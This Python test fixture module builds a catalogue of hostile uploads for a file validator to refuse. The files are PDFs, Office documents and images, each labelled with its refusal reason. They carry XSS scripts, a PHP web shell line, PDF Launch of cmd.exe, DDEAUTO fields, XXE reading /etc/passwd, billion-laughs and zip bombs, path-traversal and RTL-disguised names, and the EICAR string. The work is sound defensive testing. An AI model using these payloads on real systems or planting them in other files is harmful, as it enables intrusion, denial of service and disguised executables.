"""Files made to hurt whoever keeps, checks or opens them, each with a word of why it is refused. All made here."""

import struct
import zlib
from collections.abc import Callable

from tests.apps.exchange.hostile import lying, many_entries
from tests.apps.ledger_evidence.papers import (
    PNG_HEAD,
    changed,
    chunk,
    docx,
    jpg,
    packed,
    pdf,
    png,
    stream,
    with_part,
    xlsx,
)

MEGABYTE = 2**20
DOCUMENT, RELATIONS, BOOK, SHEET = (
    "word/document.xml",
    "word/_rels/document.xml.rels",
    "xl/workbook.xml",
    "xl/worksheets/sheet1.xml",
)
TYPES = "[Content_Types].xml"
# In two pieces, lest a scanner takes this file for it.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PAGE = b"<html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
LAUGHS = b'<!DOCTYPE w [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 10)
)
OUTSIDE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LINK = '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'


def declared(doctype: bytes) -> bytes:
    return changed(docx(), DOCUMENT, lambda xml: xml.replace(b"<w:document", doctype + b"<w:document", 1))


def linked(kind: str, target: str) -> bytes:
    """A document with one more relation that leads out of it."""
    more = LINK.format(kind, f'Target="{target}" TargetMode="External"').encode()
    return changed(docx(), RELATIONS, lambda xml: xml.replace(b"</Relationships>", more + b"</Relationships>"))


def in_cells(old: bytes, new: bytes) -> bytes:
    return changed(xlsx(), SHEET, lambda xml: xml.replace(old, new, 1))


def locked_part() -> bytes:
    """The mark of a password on the first part, where it stands twice."""
    made = bytearray(docx())
    for head, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.index(head) + at] |= 1
    return bytes(made)


def objects(content: bytes) -> bytes:
    """A PDF with objects packed in a stream."""
    head = b"10 0 "
    return pdf(stream(head + content, b"/Type/ObjStm/N 1/First %d" % len(head)))


def hidden_objects() -> bytes:
    """A stream of objects inside what looks like another stream."""
    inner = stream(b"9 0 <</S/Java#53cript>>", b"/Type/ObjStm/N 1/First 4")
    return pdf(b"<</Length 900>>\nstream\n7 0 obj\n" + inner)


def of_a_million_sheets() -> bytes:
    more = b'<sheet name="S" sheetId="1" r:id="rId1"/>' * 10**6 + b"</sheets>"
    return changed(xlsx(), BOOK, lambda xml: xml.replace(b"</sheets>", more))


def acting(how: bytes) -> bytes:
    return pdf(catalog=b"/OpenAction<</S/" + how + b"/JS(app.alert\\(1\\))>>")


def holding(name: str, content: bytes) -> bytes:
    return with_part(docx(), name, content)


def behind(content: bytes, more: bytes) -> bytes:
    return content + more


def between_parts() -> bytes:
    """An archive moved back by a page, its own list mended: to a browser a page, to Office a document."""
    made, page = docx(), b"\n" + PAGE * 4
    start = made.index(b"PK\x01\x02")
    end = made.rindex(b"PK\x05\x06")
    moved = bytearray(made[:start] + page + made[start:])
    struct.pack_into("<I", moved, end + len(page) + 16, start + len(page))
    return bytes(moved)


def png_of(*chunks: bytes) -> bytes:
    return PNG_HEAD + b"".join(chunks)


FILES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # names
    "a name that leads out": ("../../etc/cron.d/x.pdf", pdf, "another folder"),
    "a name that leads out on Windows": ("..\\..\\x.pdf", pdf, "another folder"),
    "a name with a NUL": ("a.pdf\x00.exe", pdf, "does not see"),
    "a name turned round": ("Quyết định\u202efdp.exe", pdf, "does not see"),
    "a name with a line in it": ("a\r\nSet-Cookie: x=1.pdf", pdf, "does not see"),
    "an overlong name": ("a" * 5000 + ".pdf", pdf, "longer than"),
    "no name": ("   ", pdf, "no name"),
    "a picture called a document": ("a.pdf", png, "its name says"),
    "a document called a program": ("a.pdf.exe", pdf, "its name says"),
    "a name without an ending": ("to-trinh", pdf, "its name says"),
    # other kinds
    "a page called a document": ("a.pdf", lambda: PAGE, "none of"),
    "a drawing with a script": ("a.svg", lambda: SVG, "none of"),
    "a drawing called a picture": ("a.png", lambda: SVG, "none of"),
    "a program called a document": ("a.pdf", lambda: b"MZ\x90\x00" + bytes(200), "none of"),
    "a document of old Office, or with a password": ("a.docx", lambda: OLD, "password"),
    "what scanners know": ("a.pdf", lambda: EICAR, "virus"),
    "what scanners know, in a document": ("a.docx", lambda: holding("word/a.txt", EICAR), "virus"),
    "what scanners know, packed in a PDF": ("a.pdf", lambda: pdf(stream(EICAR)), "virus"),
    "an archive that is no document": ("a.docx", lambda: packed({"a.txt": b"x"}), "none of"),
    "nothing but a beginning": ("a.pdf", lambda: b"%PDF-1.7\n", "cut short"),
    # PDF
    "a PDF with a script": ("a.pdf", lambda: acting(b"JavaScript"), "runs"),
    "a PDF whose script is spelt in numbers": (
        "a.pdf",
        lambda: acting(b"J#61vaScript"),
        "runs",
    ),
    "a PDF that starts a program": ("a.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "runs"),
    "a PDF with a form that runs": ("a.pdf", lambda: pdf(catalog=b"/AcroForm<</XFA[]>>"), "runs"),
    "a PDF with a file in it": ("a.pdf", lambda: pdf(stream(b"MZ", b"/Type/EmbeddedFile")), "embedded"),
    "a PDF that sends what one fills in": ("a.pdf", lambda: pdf(b"<</S/SubmitForm/F(http://x)>>"), "fetches"),
    "a PDF whose script is packed": ("a.pdf", lambda: objects(b"<</S/JavaScript/JS(1)>>"), "runs"),
    "a PDF whose script is packed and spelt": ("a.pdf", lambda: objects(b"<</S/J#61vaScript>>"), "runs"),
    "a PDF whose objects hide in a stream": ("a.pdf", hidden_objects, "looked through"),
    "a PDF whose objects are packed twice": (
        "a.pdf",
        lambda: pdf(stream(b"1 0 x", b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]")),
        "looked through",
    ),
    "a PDF with a password": ("a.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), "password"),
    "a PDF cut short": ("a.pdf", lambda: pdf()[:-60], "cut short"),
    "a PDF that unpacks into 120 MB": ("a.pdf", lambda: pdf(stream(bytes(120 * MEGABYTE))), "too much"),
    "a PDF whose streams unpack twice": (
        "a.pdf",
        lambda: pdf(stream(zlib.compress(bytes(9 * MEGABYTE)), b"/Filter[/FlateDecode/FlateDecode]")),
        "too much",
    ),
    "a PDF that is a page": ("a.pdf", lambda: pdf(head=b"%PDF-1.7\n" + PAGE + b"\n"), "another kind"),
    "a PDF that is an archive": ("a.pdf", lambda: behind(pdf(), packed({"a.class": b"x"}) + b"%%EOF"), "another kind"),
    # pictures
    "a picture of 60,000 by 60,000": ("a.png", lambda: png(60_000, 60_000, rows=b"\x00"), "too large"),
    "a picture that says it is small": ("a.png", lambda: png(10, 10, rows=bytes(210 * MEGABYTE)), "too much"),
    "a picture of no width": ("a.png", lambda: png(0, 10, rows=b"\x00"), "cut short"),
    "a picture whose checksum is wrong": ("a.png", lambda: png()[:-5] + b"\x00" + png()[-4:], "cut short"),
    "a picture cut short": ("a.png", lambda: png()[:-30], "cut short"),
    "a picture with a page in its notes": (
        "a.png",
        lambda: png(more=chunk(b"tEXt", b"Comment\x00" + PAGE)),
        "another kind",
    ),
    "a picture whose notes unpack into 100 MB": (
        "a.png",
        lambda: png(more=chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(100 * MEGABYTE)))),
        "too much",
    ),
    "a picture with an archive behind it": ("a.png", lambda: behind(png(), packed({"a": b"x"})), "another kind"),
    "a photograph of 65,535 by 65,535": ("a.jpg", lambda: jpg(65_535, 65_535), "too large"),
    "a photograph cut short": ("a.jpg", lambda: jpg()[:-2], "cut short"),
    "a photograph with a page in its notes": ("a.jpg", lambda: jpg(note=b"<?php system($_GET[0]); ?>"), "another kind"),
    "a photograph with a program behind it": ("a.jpg", lambda: jpg(behind=b"MZ\x90\x00"), "another kind"),
    "a photograph with an archive behind it": ("a.jpg", lambda: jpg(behind=packed({"a": b"x"})), "another kind"),
    # documents of offices
    "a document with macros": ("a.docx", lambda: holding("word/vbaProject.bin", b"x"), "macros"),
    "a document that says it has macros": (
        "a.docx",
        lambda: changed(docx(), TYPES, lambda xml: xml.replace(b"</Types>", b"<!--macroEnabled--></Types>")),
        "macros",
    ),
    "a document with an old object": (
        "a.docx",
        lambda: holding("word/embeddings/oleObject1.bin", OLD),
        "embedded",
    ),
    "a document with a program in it": (
        "a.docx",
        lambda: holding("word/media/image1.png", b"MZ\x90"),
        "embedded",
    ),
    "a document with an archive in it": (
        "a.docx",
        lambda: holding("word/media/x.bin", packed({"a": packed({"b": b"x"})})),
        "embedded",
    ),
    "a document that fetches its template": (
        "a.docx",
        lambda: linked("attachedTemplate", "http://x/a.dotm"),
        "fetches",
    ),
    "a document that fetches a picture": ("a.docx", lambda: linked("image", "\\\\x\\a.png"), "fetches"),
    "a document whose link is a program": ("a.docx", lambda: linked("hyperlink", "file:///c:/cmd.exe"), "fetches"),
    "a document that asks another program": (
        "a.docx",
        lambda: changed(
            docx(),
            DOCUMENT,
            lambda xml: xml.replace(b"</w:p>", b"<w:r><w:instrText> DDEAUTO cmd</w:instrText></w:r></w:p>", 1),
        ),
        "runs",
    ),
    "billion laughs": ("a.docx", lambda: declared(LAUGHS + b"]>"), "DOCTYPE"),
    "an outside entity": ("a.docx", lambda: declared(OUTSIDE), "DOCTYPE"),
    "an outside entity in another code": (
        "a.docx",
        lambda: changed(docx(), DOCUMENT, lambda _xml: (OUTSIDE.decode() + "<w/>").encode("utf-16")),
        "unusual code",
    ),
    "a workbook that looks elsewhere": (
        "a.xlsx",
        lambda: with_part(xlsx(), "xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        "fetches",
    ),
    "a workbook with macros of old Excel": (
        "a.xlsx",
        lambda: with_part(xlsx(), "xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        "macros",
    ),
    "a workbook of a million sheets": ("a.xlsx", of_a_million_sheets, "too much"),
    "a workbook with a cell in the last corner": (
        "a.xlsx",
        lambda: in_cells(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"/></row></sheetData>'),
        "last corner",
    ),
    "a workbook merged from corner to corner": (
        "a.xlsx",
        lambda: in_cells(b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "last corner",
    ),
    "a zip bomb that says how large it is": (
        "a.docx",
        lambda: holding("word/a.png", bytes(210 * MEGABYTE)),
        "too much",
    ),
    "a zip bomb of mostly one letter": (
        "a.docx",
        lambda: holding("word/a.xml", b" " * 50 * MEGABYTE),
        "too much",
    ),
    "a zip bomb that says it is small": ("a.xlsx", lambda: lying(SHEET, bytes(210 * MEGABYTE), 1000), "lies"),
    "a part that leads out": ("a.docx", lambda: holding("../../../tmp/evil.sh", b"x"), "leads out"),
    "a part whose name is turned round": ("a.docx", lambda: holding("word/\u202egnp.exe", b"x"), "leads out"),
    "an archive of 100,000 parts": ("a.docx", lambda: many_entries(100_000), "too many"),
    "an archive with a password": ("a.docx", locked_part, "password"),
    "a document cut short": ("a.docx", lambda: docx()[:-400], "cut short"),
    "a document with a page between its parts": ("a.docx", between_parts, "another kind"),
    "a workbook called a document": ("a.docx", xlsx, "its name says"),
}


def file_of(name: str) -> tuple[str, bytes, str]:
    """What it comes as, what is in it, a word of why it is refused."""
    called, made, why = FILES[name]
    return called, made(), why
